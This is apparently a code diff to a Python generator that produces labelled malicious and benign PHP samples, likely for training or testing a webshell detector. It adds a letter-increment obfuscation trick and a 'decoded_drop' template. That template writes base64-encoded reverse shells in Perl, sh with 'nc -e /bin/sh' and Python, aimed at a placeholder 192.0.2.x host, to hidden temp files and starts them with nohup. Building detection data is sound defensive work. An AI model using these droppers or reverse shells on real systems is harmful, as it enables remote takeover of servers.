@@ -771,7 +771,8 @@ def t_fold_more(g):
     r = g.rng
     name = r.choice(EXEC_NAMES + CODE_NAMES)
     o, s, i, k = g.var(), g.var(), g.var(), g.var()
-    form = r.choice(["while_xor", "do_shift", "while_array", "offsets", "str_pad", "vsprintf", "ceil", "keys"])
+    form = r.choice(["while_xor", "do_shift", "while_array", "offsets", "str_pad", "vsprintf", "ceil", "keys",
+                     "array_text"])
     g.transforms.add("fold:" + form)
     if form == "while_xor":
         key = "".join(r.choice("abcdefghjkmnpqrstuvwxyz23456789") for _ in range(r.randint(2, 5)))
@@ -809,6 +810,27 @@ def t_fold_more(g):
         c = ord(name[0])
         lit = "%d.%d" % (c - 1, r.randint(1, 9)) if fn == "ceil" else "%d.%d" % (c, r.randint(1, 9))
         build = "%s = chr(%s(%s)) . %s;" % (o, fn, lit, php_sq(name[1:]))
+    elif form == "array_text":
+        # "Array"[n] incremented to each letter of the name
+        a = g.var()
+        g.stmt("%s = %s;" % (a, r.choice(["[] . ''", "@\"\" . array()"])))
+        parts = []
+        for ch in name:
+            if not ch.isalpha():
+                parts.append(php_sq(ch))
+                continue
+            src_i, src_c = max(((j, c) for j, c in enumerate("Array") if c.lower() <= ch),
+                               key=lambda t: t[1].lower())
+            t = g.var()
+            steps = ord(ch) - ord(src_c.lower()) if src_c.islower() else ord(ch) - ord("a")
+            if src_c.isupper():
+                g.stmt("%s = strtolower(%s[%d]);" % (t, a, src_i))
+            else:
+                g.stmt("%s = %s[%d];" % (t, a, src_i))
+            for _ in range(steps):
+                g.stmt("%s++;" % t)
+            parts.append(t)
+        build = "%s = %s;" % (o, " . ".join(parts))
     else:
         if r.random() < 0.5:
             build = ("%s = array_keys(array(%s => 1, %s => 2));\n%s = %s[0];"
@@ -937,6 +959,34 @@ def t_script_drop(g):
     sink = r.choice(["system", "passthru", "shell_exec", "exec"])
     body = "%s\n%s = %s;\n%s%s(%s . ' 2>&1');" % (write, cmd, run, "echo " if sink in ("shell_exec", "exec") else "",
                                                  g.fn(sink), cmd)
+    return php_file(g, body)
+
+
+def t_decoded_drop(g):
+    """A program carried encoded in the PHP file (a Perl or shell back door),
+    written out to a source file and started: nothing from the request."""
+    r = g.rng
+    h, p = "192.0.2.%d" % r.randint(1, 254), r.randint(1025, 65000)
+    prog = r.choice([
+        ("pl", "use Socket;\nsocket(S, PF_INET, SOCK_STREAM, getprotobyname('tcp'));\n"
+               "connect(S, sockaddr_in(%d, inet_aton('%s')));\nopen(STDIN, '>&S'); open(STDOUT, '>&S');\n"
+               "exec('/bin/sh -i');\n" % (p, h), "perl"),
+        ("sh", "#!/bin/sh\nwhile true; do nc %s %d -e /bin/sh; sleep 30; done\n" % (h, p), "sh"),
+        ("py", "import socket,os\ns=socket.create_connection(('%s',%d))\n[os.dup2(s.fileno(),f) for f in (0,1,2)]\n"
+               "os.execv('/bin/sh',['sh'])\n" % (h, p), "python3"),
+    ])
+    ext, code, run = prog
+    g.transforms.add("drop:" + ext)
+    v, f = g.var(), g.var()
+    g.stmt("%s = %s;" % (v, php_sq(b64(code.encode()))))
+    name = r.choice(["/tmp/.%s." % g.ident()[:4], "./%s." % g.ident()[:5], "/dev/shm/."])
+    if r.random() < 0.5:
+        write = "%s(%s, %s(%s));" % (g.fn("file_put_contents"), php_sq(name + ext), g.fn("base64_decode"), v)
+    else:
+        write = ("%s = fopen(%s, 'w');\nfwrite(%s, %s(%s));\nfclose(%s);"
+                 % (f, php_sq(name + ext), f, g.fn("base64_decode"), v, f))
+    sink = r.choice(["system", "shell_exec", "exec", "passthru"])
+    body = "%s\n%s(%s);" % (write, g.fn(sink), php_sq("nohup %s %s%s > /dev/null 2>&1 &" % (run, name, ext)))
     return php_file(g, body)
 
 
@@ -1174,6 +1224,7 @@ TEMPLATES = [
     ("branch_default", t_branch_default, "malicious", "php", "high"),
     ("unknown_key", t_unknown_key, "malicious", "php", "high"),
     ("script_drop", t_script_drop, "malicious", "php", "high"),
+    ("decoded_drop", t_decoded_drop, "malicious", "php", "any"),
     ("fixed_exec", b_fixed_exec, "benign", "php", "none"),
     ("template_eval", b_template_eval, "benign", "php", "none"),
     ("updater", b_updater, "benign", "php", "none"),
